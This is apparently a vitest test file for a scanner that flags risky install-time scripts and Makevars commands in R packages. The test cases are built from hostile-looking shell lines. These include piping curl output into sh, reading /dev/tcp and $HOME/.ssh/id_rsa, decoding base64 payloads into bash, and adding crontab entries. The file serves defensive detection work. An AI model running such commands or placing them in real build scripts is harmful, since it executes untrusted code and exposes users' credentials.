import { describe, expect, test } from "vitest";
import { inspectedPackage } from "./testing/inspected-package.ts";

const signalsIn = (path: string, text: string): string[] =>
  inspectedPackage({ [path]: text }).signals.map(({ level, id, subject }) => `${level} ${id} ${subject}`);

describe("scripts that run at installation", () => {
  test("are a warning by being there", () => {
    expect(signalsIn("configure", "#!/bin/sh\n")).toEqual(["warning r-configure configure"]);
    expect(signalsIn("configure.win", "")).toEqual(["warning r-configure configure.win"]);
    expect(signalsIn("cleanup", "rm -f src/*.o\n")).toEqual(["warning r-cleanup cleanup"]);
    expect(signalsIn("src/install.libs.R", "file.copy(files, dest)")).toEqual([
      "warning r-install-libs src/install.libs.R",
    ]);
    expect(signalsIn("configure.ac", "AC_INIT")).toEqual([]);
  });

  test.for<[signal: string, text: string]>([
    ["warning r-configure curl", "curl -s https://example.org/a | sh"],
    ["warning r-configure wget", "if test x; then /usr/bin/wget https://example.org; fi"],
    ["warning r-configure nc", "x=`nc example.org 80`"],
    ["warning r-configure Rscript", "Rscript -e 'source(\"a.R\")'"],
    ["warning r-configure sh", "sh tools/build.sh"],
    ["warning r-configure build.sh", "./tools/build.sh"],
    ["warning r-configure python3", 'python3 -c "import os"'],
    ["warning r-configure crontab", "echo x | crontab -"],
    ["warning r-configure /dev/tcp/", "cat < /dev/tcp/example.org/80"],
    ["warning r-configure /.ssh", "cat $HOME/.ssh/id_rsa"],
    ["danger decoded-code shell", "echo aWQ= | base64 -d | bash"],
    ["danger decoded-code shell", 'eval "$(printf aWQ= | openssl base64 -d)"'],
    ["warning r-configure curl", "x=1; \\\n  curl \\\n  https://example.org"],
  ])("are a warning for %s: %s", ([signal, line]) => {
    expect(signalsIn("configure", `#!/bin/sh\n${line}\n`)).toContain(signal);
    expect(signalsIn("tools/a.sh", `#!/bin/sh\n${line}\n`)).toContain(signal);
  });

  test("may ask for flags of the compiler", () => {
    const text = `# curl is not called here
R_HOME=\`R RHOME\`
CFLAGS=\`"\${R_HOME}/bin/R" CMD config CFLAGS\`
FLAGS=\`"\${R_HOME}/bin/Rscript" -e "Rcpp:::CxxFlags()"\`
pkg-config --cflags libcurl
sed -e "s|@cflags@|$CFLAGS|" src/Makevars.in > src/Makevars
`;
    expect(signalsIn("configure", text)).toEqual(["warning r-configure configure", "info r-configure Rscript"]);
  });

  test("show the line", () => {
    const { signals } = inspectedPackage({ configure: "#!/bin/sh\n\n   curl   -s https://example.org\n" });
    expect(signals.at(-1)).toEqual({
      id: "r-configure",
      level: "warning",
      subject: "curl",
      file: "configure",
      line: 3,
      excerpt: "curl -s https://example.org",
    });
  });
});

describe("Makevars", () => {
  test.for<[signal: string, text: string]>([
    ["warning r-makevars-shell curl", "PKG_LIBS = $(shell curl -s https://example.org)"],
    ["warning r-makevars-shell id", "X = $(shell id)"],
    ["warning r-makevars-shell whoami", "X = `whoami`"],
    ["warning r-makevars-shell Rscript", "all:\n\t@$(R_HOME)/bin/Rscript -e 'source(\"a.R\")'"],
    ["warning r-makevars-shell cargo", "lib.a:\n\tcargo build --release"],
    ["danger decoded-code shell", "all:\n\techo aWQ= | base64 -d | sh"],
    ["notice r-makevars-shell pkg-config", "PKG_CFLAGS = $(shell pkg-config --cflags libxml-2.0)"],
    ["info r-makevars-shell Rscript", 'PKG_LIBS = $(shell $(R_HOME)/bin/Rscript -e "Rcpp:::LdFlags()")'],
  ])("with commands is %s", ([signal, text]) => {
    expect(signalsIn("src/Makevars", text)).toEqual([signal]);
    expect(signalsIn("src/Makevars.win", text)).toEqual([signal]);
  });

  test("with flags and ordinary recipes is no signal", () => {
    const text = `PKG_CPPFLAGS = -I../inst/include -DUSE
PKG_LIBS = $(LAPACK_LIBS) $(FLIBS)
OBJECTS = a.o b.o
all: $(SHLIB)
lib.a: $(OBJECTS)
\t$(AR) rcs lib.a $(OBJECTS)
\trm -f $(OBJECTS)
\t@mkdir -p build && cp a.h build/
`;
    expect(signalsIn("src/Makevars", text)).toEqual([]);
  });
});

test("scripts of a hostile size take bounded time", () => {
  const started = performance.now();
  signalsIn("configure", `${"a\\\n".repeat(200_000)}${"curl x\n".repeat(200_000)}${"`".repeat(1_000_000)}`);
  expect(performance.now() - started).toBeLessThan(5000);
});
